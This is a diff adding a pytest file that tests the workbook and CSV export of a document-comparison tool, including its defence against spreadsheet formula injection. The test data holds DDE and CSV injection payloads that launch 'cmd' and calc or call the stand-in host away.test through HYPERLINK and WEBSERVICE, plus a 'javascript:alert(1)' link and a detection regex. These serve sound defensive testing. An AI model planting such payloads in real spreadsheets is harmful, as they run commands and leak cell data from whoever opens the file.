@@ -1,0 +1,449 @@
+"""A comparison as a workbook and as CSV: what it found, typed, leading to the report, and nothing that runs."""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+import zipfile
+from dataclasses import replace
+from datetime import datetime
+from decimal import Decimal
+from pathlib import Path
+from typing import Any
+
+import pytest
+from lxml import etree
+from openpyxl import Workbook, load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from diffreport import read
+from diffreport.archived import comparisons as archived_comparisons
+from diffreport.comparison import compare, lone
+from diffreport.comparison.figures.ledger import ledger
+from diffreport.model import Block, Comparison, Document, Edition, Kind, LeftOut, NoiseCount, Status, Table
+from diffreport.report import rendered
+from diffreport.report.ledger import COLUMNS
+from diffreport.report.presentation import PLAIN, TABLES, Presentation
+from diffreport.report.review import Judgement, Review, Statement
+from diffreport.report.sheets import Linked
+from diffreport.report.sheets import Table as Cells
+from diffreport.report.sheets.workbook import workbook
+from tests.report.factory import Draft, every_case, figure
+
+SHEETS = ["Summary", "Findings", "Figures", "Wording", "Tables", "Provenance"]
+AT = "2025-07-04T09:11:20.000Z"
+
+# What a spreadsheet runs, or may take for something to run.
+PAYLOADS = (
+    '=HYPERLINK("https://away.test/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1",
+    "\u200b=1+1", "\ufeff=1+1", "\u2028=1+1", '"=1+1', "'=1+1", '""=1+1', "＝1+1", "＋1+1", "－1+1", "＠SUM(1)",
+    "x;=1+1", 'x; "@SUM(1)', '=IMPORTXML("https://away.test/a","//a")', '=WEBSERVICE("https://away.test/b")',
+    "DDE;=DDE(\"cmd\";\"/C calc\";\"x\")", "<r><t>=1+1</t></r></si><si><r></r>", "_x003D_1+1",
+)  # fmt: skip
+
+
+def book_of(comparison: Comparison, shown: Presentation = PLAIN) -> Workbook:
+    """Return the workbook of a comparison, as another program reads it."""
+    return load_workbook(io.BytesIO(rendered(comparison, "xlsx", shown)))
+
+
+def rows_in(sheet: Worksheet) -> list[dict[str, Any]]:
+    """Return the rows of a worksheet by column."""
+    head, *rows = sheet.iter_rows(values_only=True)
+    return [dict(zip(head, row, strict=True)) for row in rows]
+
+
+def csv_of(comparison: Comparison, table: str, shown: Presentation = PLAIN) -> list[dict[str, str]]:
+    """Return the rows of a CSV file by column."""
+    text = rendered(comparison, "csv", replace(shown, table=table)).decode("utf-8")
+    return list(csv.DictReader(io.StringIO(text, newline=""), strict=True))
+
+
+def facts(rows: list[dict[str, Any]]) -> dict[tuple[str, str], Any]:
+    """Return the lines of a table of facts."""
+    return {(row["about"], row["name"]): row["value"] for row in rows}
+
+
+def test_a_workbook_has_six_worksheets_with_frozen_headers_and_filters() -> None:
+    """In their order; each filter covers its rows."""
+    book = book_of(every_case())
+    assert book.sheetnames == SHEETS
+    for sheet in book:
+        assert sheet.freeze_panes in ("A2", "B2")
+        assert sheet.auto_filter.ref == sheet.dimensions
+        assert all(sheet.column_dimensions[cell.column_letter].width >= 7 for cell in sheet[1])
+
+
+def test_every_finding_has_a_row_with_what_belongs_to_it() -> None:
+    """Its words on both sides, its sentence, its place, its link; numbers are numbers."""
+    made = every_case()
+    rows = rows_in(book_of(made)["Findings"])
+    assert [(row["n"], row["finding"]) for row in rows] == [(f.n, f.id) for f in made.findings]
+    first, second, third = rows[:3]
+    assert (first["old_words"], first["new_words"], first["score"]) == ("approximately 315", "412", 0.8)
+    assert first["sentence"] == "The ministry counted 412 fighters in 2024."
+    assert (first["old_citation"], first["new_citation"], first["relation"]) == ("2023 ¶ 1", "2024 ¶ 1", "revised")
+    assert (second["old_words"], second["new_words"], second["tags"]) == ("shall", "may", "wording obligation")
+    assert (third["old_words"], third["new_words"]) == (None, "and attacks in which no one was hurt")
+    by_label = {row["label"]: row for row in rows}
+    assert by_label["Paragraph removed"]["new_citation"] is None
+    assert by_label["Paragraph removed"]["old_words"] == "Four inquiries were opened."
+    assert by_label["Paragraph removed"]["score"] is None
+    assert by_label["Paragraphs merged"]["old_words"] == "The bank licensed operators. / They report transfers."
+    assert by_label["Table changed"]["new_words"].splitlines() == ["2022 | 36 | 46 / 2024 | 52 | 74"]
+
+
+def test_a_doubtful_finding_is_told_to_be_one() -> None:
+    """As the report says "perhaps"."""
+    made = every_case()
+    link = replace(made.alignment.links[1], score=0.16)
+    links = (made.alignment.links[0], link, *made.alignment.links[2:])
+    rows = rows_in(book_of(replace(made, alignment=replace(made.alignment, links=links)))["Findings"])
+    assert [row["doubtful"] for row in rows[:2]] == ["doubtful", None]
+    assert rows[0]["tags"] == "figure wording hedge doubtful"
+
+
+def test_the_figures_are_those_of_the_ledger() -> None:
+    """Column by column, each value what a double holds of it, per cent as a share with its format."""
+    made = every_case()
+    sheet = book_of(made)["Figures"]
+    rows, told = rows_in(sheet), ledger(made)
+    assert list(rows[0]) == ["n", *COLUMNS]
+    assert len(rows) == len(told) > 3
+    for row, of in zip(rows, told, strict=True):
+        assert row["old_value"] == as_double(of.values(of.old)[0]) and row["new_value"] == as_double(
+            of.values(of.new)[0]
+        )
+        assert row["delta"] == as_double(of.delta) and row["finding"] == of.finding
+        assert row["percent"] == (None if of.percent is None else float(of.percent) / 100)
+        assert (row["status"], row["label"]) == (of.status, of.label)
+    percent = sheet.cell(2, list(rows[0]).index("percent") + 1)
+    assert percent.number_format == "+0.0%;-0.0%;0.0%"
+    numbers = csv_of(made, "figures")
+    assert [row["delta"] for row in numbers] == ["" if of.delta is None else f"{of.delta:f}" for of in told]
+
+
+def as_double(value: Decimal | None) -> float | None:
+    """Return a value as a worksheet holds it."""
+    return None if value is None else float(value)
+
+
+def test_a_changed_cell_has_a_row_and_so_has_what_came_or_went() -> None:
+    """Under the table's caption, with its row and column."""
+    old = Table((("Year", "Attacks", "Wounded"), ("2022", "41", "7"), ("2023", "47", "8")), 1, "Attacks by year")
+    new = Table((("Year", "Attacks", "Killed"), ("2022", "36", "1"), ("2024", "47", "2")), 1, "Attacks by year")
+    made = compare(
+        *(Document((Block(Kind.TABLE, t.text, table=t),), Edition(label)) for t, label in ((old, "a"), (new, "b")))
+    )
+    rows = rows_in(book_of(made)["Tables"])
+    told = {(row["what"], row["row"], row["column"]): row for row in rows}
+    cell = told["cell changed", "2022", "Attacks"]
+    assert (cell["old"], cell["new"], cell["old_value"], cell["new_value"]) == ("41", "36", 41, 36)
+    assert (cell["delta"], round(cell["percent"], 3), cell["n"], cell["table"]) == (-5, -0.122, 1, "Attacks by year")
+    assert cell["unit"] is None
+    assert told["row removed", "2023", None]["old"] == "2023 | 47 | 8"
+    assert told["row added", "2024", None]["new"] == "2024 | 47 | 2"
+    assert ("column removed", None, "Wounded") in told and ("column added", None, "Killed") in told
+
+
+def test_a_cell_that_is_no_content_names_its_noise_and_no_finding() -> None:
+    """It is listed, since the table is, and counted nowhere."""
+    made = every_case()
+    table = made.tables[0]
+    made = replace(made, tables=(replace(table, cells=tuple(replace(c, noise="case") for c in table.cells)),))
+    [row] = [row for row in rows_in(book_of(made)["Tables"]) if row["what"] == "cell changed"]
+    assert (row["noise"], row["n"], row["finding"]) == ("case", None, None)
+
+
+def test_a_wording_signal_has_a_row() -> None:
+    """With the words that show it, and the sentence that holds it."""
+    made = every_case()
+    signal = replace(made.wording[1], evidence=("shall bring", "may bring"))
+    rows = rows_in(book_of(replace(made, wording=(made.wording[0], signal)))["Wording"])
+    assert [(row["n"], row["class"]) for row in rows] == [(1, "hedge_dropped"), (2, "obligation_weakened")]
+    assert rows[1]["signal"] == "Duty weakened" and rows[1]["old_evidence"] == "shall bring"
+    assert rows[1]["sentence"] == "Prosecutors may bring suspects to court."
+
+
+def test_the_summary_has_the_counts_of_the_masthead() -> None:
+    """And noise by its class, and what was rewritten throughout."""
+    made = every_case()
+    rows = rows_in(book_of(made)["Summary"])
+    told, counted = facts(rows), made.summary
+    assert told["report", "title"] == "Karsova"
+    assert (told["report", "old edition"], told["report", "new edition"]) == ("2023", "2024")
+    assert told["counts", "findings"] == counted.findings == len(made.findings)
+    assert told["counts", "figures changed"] == counted.figures
+    assert told["counts", "wording signals"] == counted.wording
+    assert told["counts", "old wording kept"] == counted.kept_percent / 100
+    assert [row["value"] for row in rows if row["about"] == "noise"] == [noise.count for noise in made.noise]
+    rewrite = next(row for row in rows if row["name"] == "term: terrorist events → terrorist incidents")
+    assert (rewrite["value"], rewrite["remark"]) == (34, "still there in one place")
+
+
+def test_the_provenance_tells_editions_settings_and_fallbacks() -> None:
+    """A full date is a date; an address is a link only if it may be followed."""
+    source = "https://example.org/2024?a=1#top"
+    old = Edition("2023", source="javascript:alert(1)", published="2023", size=12)
+    new = Edition("2024", source=source, published="2025-07-03", retrieved="2025-07-04T06:00:00Z", sha256="0f" * 32)
+    made = every_case()
+    made = replace(
+        made,
+        old=replace(made.old, edition=old, left_out=(LeftOut("navigation", "marked as such", 1204),)),
+        new=replace(made.new, edition=new, pages=14, remarks=("A remark.",)),
+    )
+    sheet = book_of(made)["Provenance"]
+    told = facts(rows_in(sheet))
+    assert told["old edition", "published"] == "2023"
+    assert told["new edition", "published"] == datetime(2025, 7, 3)
+    assert told["new edition", "retrieved"] == "2025-07-04T06:00:00Z"
+    assert told["old edition", "left out"] == "navigation, 1,204 words: marked as such"
+    assert (told["new edition", "pages"], told["new edition", "remark"]) == (14, "A remark.")
+    assert told["settings", "move_score"] == 0.5 and told["comparison", "engine"] == "factory"
+    assert told["fallbacks", "section 2"] == "20,001 pairs exceed the budget"
+    links = {cell.value: cell.hyperlink for row in sheet.iter_rows() for cell in row if cell.hyperlink}
+    assert list(links) == [source]
+    assert (links[source].target, links[source].location) == ("https://example.org/2024?a=1", "top")
+    assert [row["value"] for row in csv_of(made, "provenance") if row["name"] == "published"][1:] == ["2025-07-03"]
+
+
+@pytest.mark.parametrize(
+    ("report", "target"),
+    [
+        ("report.html", "report.html"),
+        ("https://example.org/r/report.html", "https://example.org/r/report.html"),
+        ("a%20b.html", "a%20b.html"),
+    ],
+)
+def test_numbers_lead_to_their_findings_in_the_report(report: str, target: str) -> None:
+    """By a relation of the file, in every worksheet that has findings; they are numbers still."""
+    made = every_case()
+    book = book_of(made, Presentation(report=report))
+    for name in SHEETS[1:-1]:
+        cells = [row[0] for row in book[name].iter_rows(min_row=2)]
+        ids = [row["finding"] for row in rows_in(book[name])]
+        assert [cell.hyperlink.location for cell in cells if cell.value] == [id_ for id_ in ids if id_]
+        assert {cell.hyperlink.target for cell in cells if cell.value} == {target}
+        assert all(isinstance(cell.value, int) for cell in cells)
+
+
+def test_without_a_report_nothing_leads_anywhere() -> None:
+    """Nor in CSV, which has numbers alone."""
+    book = book_of(every_case())
+    assert not any(cell.hyperlink for sheet in book for row in sheet.iter_rows() for cell in row)
+    shown = Presentation(report="report.html")
+    assert csv_of(every_case(), "findings", shown) == csv_of(every_case(), "findings")
+
+
+def test_more_links_than_a_worksheet_holds_are_cells_without() -> None:
+    """The number stays, the file opens, nothing is said on the way."""
+    rows = [[Linked(n, f"r.html#c-{n}")] for n in range(65_532)]
+    content = workbook("x", [Cells("Numbers", ("n",), rows)])
+    with zipfile.ZipFile(io.BytesIO(content)) as book:
+        page = book.read("xl/worksheets/sheet1.xml")
+    assert page.count(b"<hyperlink ") == 65_530 and page.count(b"<v>65531</v>") == 1
+
+
+def test_a_link_too_long_for_a_worksheet_is_a_cell_without() -> None:
+    """An address of a novel's length leads nowhere."""
+    book = book_of(every_case(), Presentation(report="x" * 3_000))
+    assert book["Findings"]["A2"].value == 1 and book["Findings"]["A2"].hyperlink is None
+
+
+def test_csv_has_the_columns_and_rows_of_the_worksheets() -> None:
+    """Each of them by its name; findings where none is named."""
+    made = every_case()
+    book = book_of(made)
+    for name, sheet in zip(TABLES, SHEETS, strict=True):
+        rows = rows_in(book[sheet])
+        told = csv_of(made, name)
+        assert [list(row) for row in told] == [list(row) for row in rows]
+        for row, of in zip(told, rows, strict=True):
+            assert {k for k, value in row.items() if value} == {k for k, value in of.items() if value is not None}
+    assert rendered(made, "csv") == rendered(made, "csv", Presentation(table="findings"))
+
+
+def test_a_review_adds_its_columns() -> None:
+    """The verdict, the comment, who said so; where reviewers differ it is contested."""
+    made = every_case()
+    said = (Statement("Ana", "accepted", "Yes.", AT), Statement("Ben", "dismissed", "", AT))
+    findings = {
+        "c-00000001": Judgement("accepted", "So it is.\nIndeed.", AT),
+        "c-00000002": Judgement(None, "Ana: Yes.", AT, said),
+    }
+    shown = Presentation(review=Review("x", AT, "Cyd", findings))
+    for rows in (rows_in(book_of(made, shown)["Findings"]), csv_of(made, "findings", shown)):
+        told = [(row["verdict"], row["comment"], row["reviewer"]) for row in rows[:3]]
+        assert told[:2] == [("accepted", "So it is. / Indeed.", "Cyd"), ("contested", "Ana: Yes.", "Ana, Ben")]
+        assert not any(told[2])
+    assert "verdict" not in csv_of(made, "findings")[0]
+
+
+@pytest.mark.parametrize("standing", ["first", "withdrawn"])
+def test_a_lone_edition_has_a_workbook(standing: str) -> None:
+    """It says which edition it is and where it came from; a withdrawn one has its one finding."""
+    document = Document.from_paragraphs(["The ferry carried 40 people.", "It shall run daily."], "2024", "Ferries")
+    made = lone.first(document) if standing == "first" else lone.withdrawn(document, "2025-07-04")
+    book = book_of(made, Presentation(report="r.html"))
+    rows = rows_in(book["Summary"])
+    told = facts(rows)
+    assert told["report", "edition"] == "2024"
+    assert {row["about"] for row in rows_in(book["Provenance"])} >= {"edition", "comparison", "settings"}
+    found = rows_in(book["Findings"])
+    if standing == "first":
+        assert found == []
+    else:
+        assert [row["label"] for row in found] == ["Edition withdrawn"]
+        assert told["report", "last seen"] == datetime(2025, 7, 4)
+    assert len(rows_in(book["Figures"])) == 1
+
+
+def test_a_comparison_without_findings_has_every_table() -> None:
+    """With its header; the summary says that there is nothing."""
+    document = Document.from_paragraphs(["The ferry runs."], "2023")
+    made = compare(document, replace(document, edition=Edition("2024")))
+    book = book_of(made)
+    assert book.sheetnames == SHEETS
+    assert facts(rows_in(book["Summary"]))["counts", "findings"] == 0
+    assert all(book[name].max_row == 1 for name in SHEETS[1:-1])
+    assert csv_of(made, "findings") == []
+
+
+@pytest.mark.parametrize("form", ["xlsx", "csv"])
+def test_the_same_comparison_is_the_same_bytes(form: str) -> None:
+    """No clock, no order of sets; members of the file have one date."""
+    shown = Presentation(report="r.html")
+    content = rendered(every_case(), form, shown)
+    assert content == rendered(every_case(), form, shown)
+    if form == "xlsx":
+        with zipfile.ZipFile(io.BytesIO(content)) as book:
+            assert {member.date_time[0] for member in book.infolist()} == {1980}
+
+
+def test_the_words_of_the_report_are_in_its_language() -> None:
+    """Labels and places as the report has them; the names of columns are the same in every language."""
+    german = csv_of(every_case(), "findings", Presentation(language="de"))
+    assert german[1]["label"] == "Pflicht abgeschwächt"
+    assert list(german[1]) == list(csv_of(every_case(), "findings")[1])
+
+
+# -- what strangers wrote
+
+
+def hostile(payload: str) -> tuple[Comparison, Presentation]:
+    """Return a comparison in which everything that others wrote begins with a payload, and how it is shown."""
+
+    def side(boats: str, duty: str, killed: str) -> Document:
+        section = (f"{payload} Ports", payload)
+        head = (f"{payload} Year", f"{payload} Killed")
+        table = Table((head, (f"{payload} A", killed), (f"{payload} {boats}", "3")), 1, f"{payload} {boats}")
+        blocks = (
+            Block(Kind.PARAGRAPH, f"{payload} The port counted {boats} boats.", section),
+            Block(Kind.PARAGRAPH, f"{payload} The master {duty} register them at once.", section),
+            Block(Kind.PARAGRAPH, f"{payload} Only the {boats} know of this {killed} passage.", section, 3),
+            Block(Kind.TABLE, table.text, section, table=table),
+        )
+        edition = Edition(*[payload] * 4, source=payload, note=payload, media_type=payload, published=payload)
+        return Document(blocks, edition, payload, payload, (payload,), (LeftOut(payload, payload, 3),))
+
+    draft = Draft()
+    of_payload = draft.edited(f"[-{payload}-]{{+{payload} 2+}}", payload, (payload,))
+    draft.revision(of_payload, Status.REVISED, payload, figure(payload, "3", unit=payload), figure(payload, "4"))
+    draft.signal(of_payload, payload, payload, payload)
+    drafted = draft.comparison()
+    made = compare(side("10", "shall", "41"), side("25", "may", payload))
+    found = made.findings[0]
+    judgement = Judgement("accepted", payload, AT, (Statement(payload, "accepted", payload, AT),))
+    review = Review("x", AT, payload, {found.id: judgement})
+    # a label, a tag and a class of noise that no version of ours has
+    made = replace(
+        made,
+        engine=payload,
+        settings={**made.settings, payload: payload},
+        findings=(replace(found, label=payload, tags=(payload,)), *made.findings[1:]),
+        figures=tuple(replace(r, label=payload) for r in made.figures),
+        wording=tuple(replace(s, signal=payload, evidence=(payload, payload)) for s in made.wording),
+        noise=(NoiseCount(payload, 3),),
+        rewrites=drafted.rewrites,
+    )
+    return made, Presentation(review=review, report="report.html")
+
+
+_LIVE = re.compile(r"(?:^|;)[\s\"\u200b\ufeff]*[=+\-@＝＋－＠\t\r]")
+_NUMBER = re.compile(r"[-+]?\d+(?:\.\d+)?")
+
+
+def is_live(text: str) -> bool:
+    """Tell whether a spreadsheet would take a text for something to run."""
+    return bool(_LIVE.search(text)) and not _NUMBER.fullmatch(text)
+
+
+@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
+def test_nothing_that_strangers_wrote_runs_in_a_spreadsheet(payload: str) -> None:
+    """No cell of any table is a formula or a link of theirs, in either format, and each is there to be read."""
+    made, shown = hostile(payload)
+    cells = 0
+    for table in TABLES:
+        text = rendered(made, "csv", replace(shown, table=table)).decode("utf-8")
+        rows = list(csv.reader(io.StringIO(text, newline=""), strict=True))
+        assert len(rows) == text.count("\r\n")  # no cell holds the end of a line
+        assert len({len(row) for row in rows}) == 1
+        assert not any(is_live(cell) for row in rows for cell in row)
+        cells += sum("1" in cell or "away.test" in cell or "cmd" in cell for row in rows for cell in row)
+    assert cells > 40
+    content = rendered(made, "xlsx", shown)
+    book = load_workbook(io.BytesIO(content))
+    every = [cell for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert {cell.hyperlink.target for cell in every if cell.hyperlink} == {"report.html"}
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        for name in parts.namelist():
+            tree = etree.fromstring(parts.read(name))
+            assert not tree.findall(".//{*}f") and not tree.findall(".//{*}r/{*}t"), name
+    assert all(cell.quotePrefix for cell in every if isinstance(cell.value, str) and is_live(cell.value))
+
+
+def test_what_xml_cannot_hold_is_written_out_or_replaced() -> None:
+    """Controls, halves of characters, no characters: in texts, in titles, in addresses."""
+    hidden = "a\x00b\x0b\x1f\ud800\ufffe\uffff\u202ec"
+    old, new = (
+        Document.from_paragraphs([f"{hidden} counted {n} boats."], label, hidden) for n, label in ((1, "a"), (2, "b"))
+    )
+    content = rendered(compare(old, new), "xlsx", Presentation(report=f"{hidden}.html"))
+    with zipfile.ZipFile(io.BytesIO(content)) as parts:
+        for name in parts.namelist():
+            etree.fromstring(parts.read(name))
+    text = rendered(compare(old, new), "csv", Presentation(table="summary")).decode("utf-8")
+    assert "a<U+0000>b<U+000B><U+001F><U+D800>" in text and "<U+202E>c" in text
+
+
+def test_a_cell_holds_what_it_can_of_a_very_long_text() -> None:
+    """32,767 units of UTF-16, with an ellipsis; CSV has all."""
+    long = "word 🚢 " * 6_000
+    made = compare(Document.from_paragraphs(["One."], "a"), Document.from_paragraphs(["One.", long], "b"))
+    [row] = rows_in(book_of(made)["Findings"])
+    assert row["new_words"].endswith("…")
+    assert 32_765 <= len(row["new_words"].encode("utf-16-le")) // 2 <= 32_767
+    assert csv_of(made, "findings")[0]["new_words"] == long.strip()
+
+
+@pytest.mark.usefixtures("kept")
+def test_a_real_report_is_whole_in_its_workbook(shared_editions: Path) -> None:
+    """Its findings, its figures and its signals, each as many as it has; the numbers are those of the ledger."""
+    folder = shared_editions / "hrr_html"
+    old, new = (read(folder / f"hrr_iceland__{year}.html") for year in (2021, 2022))
+    made = archived_comparisons.compared(old, new)
+    book = book_of(made, Presentation(report="report.html"))
+    told = ledger(made)
+    figures = rows_in(book["Figures"])
+    assert [row["n"] for row in rows_in(book["Findings"])] == list(range(1, len(made.findings) + 1))
+    assert [row["new_value"] for row in figures] == [as_double(of.values(of.new)[0]) for of in told]
+    assert [row["delta"] for row in figures] == [as_double(of.delta) for of in told]
+    assert len(rows_in(book["Wording"])) == len(made.wording)
+    assert not any(cell.data_type == "f" for sheet in book for row in sheet.iter_rows() for cell in row)
+    sentences = {row["finding"]: row["sentence"] or "" for row in rows_in(book["Findings"])}
+    words = {row["finding"]: row["new_words"] or "" for row in rows_in(book["Findings"])}
+    of_words = [f for f in made.findings if f.opcodes and " … " not in words[f.id] and words[f.id]]
+    assert len(of_words) > 10
+    assert all(words[f.id].split(" / ")[0] in sentences[f.id] for f in of_words)
